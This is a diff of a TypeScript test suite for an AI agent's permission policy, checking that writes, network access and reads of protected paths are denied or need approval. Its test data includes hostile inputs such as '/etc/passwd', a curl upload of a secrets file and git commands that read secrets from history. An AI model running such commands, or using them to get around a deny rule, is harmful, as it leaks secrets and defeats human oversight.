@@ -64,7 +64,7 @@ describe('effects', () => {
   }
   const said = (policy: Partial<Policy>): Policy => ({ ...openPolicy, ...policy })
 
-  it('reading is allowed, writing and reaching outside ask, and say what could be granted', () => {
+  it('reading is allowed; writing and network access need approval, and report possible grants', () => {
     expect(judge('read_file', { path: 'src/a.ts' })).toMatchObject({ kind: 'allow', rule: 'effects.read' })
     expect(judge('write_file', { path: 'src/b.ts', content: '' })).toEqual({
       kind: 'ask',
@@ -102,13 +102,13 @@ describe('effects', () => {
     ['tsconfig.json', 'MEDIUM'],
     ['src/monkey.ts', 'MEDIUM'],
     ['open/x', 'HIGH'],
-  ])('writing %s is %s, by whole names; what is HIGH is not granted for a session', (file, risk) => {
+  ])('writing %s is %s, by whole names; HIGH risk is not granted for a session', (file, risk) => {
     const verdict = judge('write_file', { path: file, content: '' })
     expect(verdict).toMatchObject({ kind: 'ask', risk })
     expect('grants' in (verdict as object)).toBe(risk === 'MEDIUM')
   })
 
-  it('writing down a task asks nobody, unless a policy says so; a tool of somebody else is like any other', () => {
+  it('creating a task needs no approval, unless a policy requires it; a custom tool is like any other', () => {
     const [create] = createTools({ places, home: root }).filter(({ name }) => name === 'create_task') as [
       Tool,
     ]
@@ -135,7 +135,7 @@ describe('effects', () => {
       })
   })
 
-  it('where the workspace lies says nothing about the files in it', () => {
+  it('the location of the workspace does not affect the files in it', () => {
     const below = path.join(workspace, 'secrets', 'deep')
     const rule = createEffectsRule({ policy: openPolicy, places, sandboxed: () => true })
     const call = callOf(toolNamed('write_file'), { path: path.join(below, 'x.ts'), content: '' })
@@ -143,7 +143,7 @@ describe('effects', () => {
   })
 
   it.each(['../x', '/etc/passwd', '.github/agents/a.agent.md', '.git/config', 'a\0b'])(
-    'what is outside or protected is denied, whatever is allowed: %j',
+    'outside or protected paths are denied, whatever is allowed: %j',
     (file) => {
       for (const name of ['write_file', 'create_directory'])
         expect(judge(name, { path: file, content: '' }, { allow: ['write'] })).toMatchObject({
@@ -161,14 +161,14 @@ describe('effects', () => {
     expect(verdict?.paths?.map(({ decision }) => decision)).toEqual(['allow', 'deny'])
   })
 
-  it('an artifact that is the own one may be written', () => {
+  it('an agent’s own artifact may be written', () => {
     const own = '.github/hooks/artifacts/a.md'
     const write = (file: string) => judge('write_file', { path: file, content: '' }, { ownOf: () => own })
     expect(write(own)?.kind).toBe('ask')
     expect(write('.github/hooks/artifacts/b.md')?.kind).toBe('deny')
   })
 
-  it('a team and a flag loosen the default, a policy decides before them and is named', () => {
+  it('a team and a flag loosen the default; a policy takes precedence and is named', () => {
     const write = (options: Partial<EffectsRuleOptions>) =>
       judge('write_file', { path: 'src/b.ts', content: '' }, options)
     const team = { name: 'coordinator', effects: { write: 'allow' as const } }
@@ -185,7 +185,7 @@ describe('effects', () => {
     expect(off).not.toHaveProperty('grants')
   })
 
-  it('delegation, reports and commands are left to others; the trusted check does not ask', () => {
+  it('delegation, reports and commands have other rules; the trusted check does not ask', () => {
     expect(judge(custom('read', { kind: 'delegate' }), {})).toBeUndefined()
     expect(judge(custom('read', { kind: 'report' }), {})).toBeUndefined()
     expect(judge(command, { command: 'ls' })).toBeUndefined()
@@ -213,7 +213,7 @@ describe('paths of a policy', () => {
       signal,
     ) as Verdict | undefined
 
-  it('holds however the path is spelt and wherever it leads', () => {
+  it('apply in any spelling and through any link', () => {
     const policy = policyWith(['secrets'])
     for (const file of [
       'secrets/a.txt',
@@ -235,11 +235,11 @@ describe('paths of a policy', () => {
     expect(judge(policy, 'write_file', { path: 'secrets/x', content: '' })?.kind).toBe('deny')
   })
 
-  it('is not got around by naming what a link of the policy leads to', () => {
+  it('cannot be bypassed through the target of a link', () => {
     expect(judge(policyWith(['open']), 'read_file', { path: 'secrets/a.txt' })?.kind).toBe('deny')
   })
 
-  it('asks where it says ask, and nothing is granted for later', () => {
+  it('ask if the policy says ask, without a grant', () => {
     const verdict = judge(policyWith([], ['docs/**']), 'write_file', { path: 'docs/a.md', content: '' })
     expect(verdict).toMatchObject({ kind: 'ask', rule: 'paths.ask.write' })
     expect(verdict).not.toHaveProperty('grants')
@@ -249,6 +249,14 @@ describe('paths of a policy', () => {
     ['cat secrets/a.txt', 'deny'],
     ['cat ./open/a.txt', 'deny'],
     ['git show HEAD:secrets/a.txt', 'deny'],
+    ['cd src && git show HEAD:secrets/a.txt', 'deny'],
+    ['cd src && git cat-file -p :0:secrets/a.txt', 'deny'],
+    ['cd src && git log -p -- :/secrets', 'deny'],
+    ['cd src && git log -p -- ":(top)secrets/a.txt"', 'deny'],
+    ['git log -p secrets/a.txt', 'deny'],
+    ['git blame -- secrets/a.txt', 'deny'],
+    ['git show HEAD:src/a.ts', undefined],
+    ['git log -p', undefined],
     ['curl -d @secrets/a.txt x', 'deny'],
     ['tar --file=secrets/a.txt', 'deny'],
     ['tar -fsecrets/a.txt', 'deny'],
@@ -261,11 +269,11 @@ describe('paths of a policy', () => {
     ['cat secr*/a.txt', 'ask'],
     ['cat src/a.ts', undefined],
     ['git commit -m secretary', undefined],
-  ])('in a command every word counts: %s', (line, expected) => {
+  ])('apply to every word of a command: %s', (line, expected) => {
     expect(judge(policyWith(['secrets']), command, { command: line })?.kind).toBe(expected)
   })
 
-  it('without a sandbox a person is asked about every command that could come across it', () => {
+  it('without a sandbox, every command that could reach it needs approval', () => {
     const line = { command: 'git status' }
     expect(judge(policyWith(['secrets']), command, line)).toBeUndefined()
     expect(judge(policyWith(['secrets']), command, line, false)).toMatchObject({
@@ -286,7 +294,7 @@ describe('paths of a policy', () => {
     )
   })
 
-  it('a search or a listing above it shows nothing of it, with ripgrep and without', async () => {
+  it('a search or listing above it shows none of it, with ripgrep and without', async () => {
     const denied = createDeniedPaths({ policy: policyWith(['secrets']), places })
     const context = { session: 's', agent: 'a', call: 'c', key: 'k', workspace }
     for (const locate of [undefined, async () => undefined]) {
